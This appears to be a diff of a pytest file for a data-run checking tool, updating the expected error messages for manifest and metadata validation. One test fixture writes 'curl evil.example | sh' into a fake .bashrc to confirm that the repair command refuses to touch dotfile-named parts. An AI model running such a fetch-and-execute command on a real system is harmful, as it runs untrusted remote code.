@@ -132,7 +132,7 @@ def test_repair_does_not_move_a_part_named_like_a_dotfile_into_a_linked_quaranti
     (run / "parts" / "metrics" / ".bashrc").write_text("curl evil.example | sh\n")
     edit_json(run / "parts" / "manifest.json", lambda d: d["tables"]["metrics"].append("metrics/.bashrc"))
     refused_in_process(capsys, ["check", str(run), "--repair"], "manifest.json: key 'tables.metrics[2]'",
-                       "a part must be a plain file name", unchanged=(tmp_path, run))
+                       "expected a plain file name in the run's parts/", unchanged=(tmp_path, run))
     assert (homes / "metrics" / ".bashrc").read_text() == "alias ll='ls -l'\n"
 
 
@@ -229,7 +229,7 @@ def test_manifest_entries_are_plain_file_names_of_their_table(made: dict[str, Pa
     shutil.copy(run / "parts" / "changes" / "00000001.parquet", run / "parts" / "changes" / "00000007.parquet")
     edit_json(run / "parts" / "manifest.json", lambda d: d["tables"]["changes"].append(entry))
     refused_in_process(capsys, ["sql", str(run), "SELECT count(*) FROM changes"],
-                       "manifest.json: key 'tables.changes[2]'", "a part must be a plain file name")
+                       "manifest.json: key 'tables.changes[2]'", "expected a plain file name in the run's parts/")
 
 
 def test_a_part_listed_twice_is_refused(made: dict[str, Path], tmp_path: Path,
@@ -378,14 +378,15 @@ def test_every_meta_field_of_the_wrong_type_is_one_located_line(meta_run: Path, 
     assert set(json.loads(good)) == set(WRONG_META)  # every field the writer writes has its cases
     try:
         edit_json(path, lambda d: d.update({key: value}))
-        refused_in_process(capsys, ["show", str(meta_run)], f"{path}: key {key!r}: expected ")
+        # the key, or a part of it: key 'rule_files[0].path'
+        refused_in_process(capsys, ["show", str(meta_run)], f"{path}: key '{key}", "': expected ")
     finally:
         path.write_text(good)
 
 
 @pytest.mark.parametrize(("which", "change", "fragment"), [
-    ("meta.json", [], "meta.json: expected a JSON object"),
-    ("parts/manifest.json", [], "manifest.json: expected a JSON object"),
+    ("meta.json", [], "meta.json: expected an object, got an empty list"),
+    ("parts/manifest.json", [], "manifest.json: expected an object, got an empty list"),
     ("parts/manifest.json", {"format": 5}, "manifest.json: key 'format'"),
     ("parts/manifest.json", {"flushes": "2"}, "manifest.json: key 'flushes'"),
     ("parts/manifest.json", {"flushes": -1}, "manifest.json: key 'flushes'"),
